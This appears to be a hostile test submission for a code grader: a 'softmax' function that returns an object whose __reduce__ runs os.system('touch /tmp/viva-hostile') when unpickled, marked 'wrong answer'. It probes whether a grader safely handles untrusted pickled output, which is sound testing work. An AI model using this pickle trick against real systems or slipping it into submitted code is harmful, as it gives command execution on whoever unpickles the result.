"""Returns an object that runs a command when it is unpickled.

runtime: numpy
verdict: wrong answer
"""

import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/viva-hostile",)


def softmax(x):
    return Bomb()
